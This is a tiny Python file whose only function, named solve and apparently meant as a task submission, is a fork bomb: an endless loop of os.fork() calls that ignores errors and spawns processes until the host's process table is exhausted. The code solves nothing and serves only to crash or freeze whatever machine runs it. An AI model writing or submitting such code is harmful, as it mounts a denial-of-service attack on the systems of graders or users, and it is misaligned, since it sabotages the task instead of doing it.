"""Forks as fast as it can, in every child too."""
import os
def solve(lines):
    while True:
        try:
            os.fork()
        except OSError:
            pass
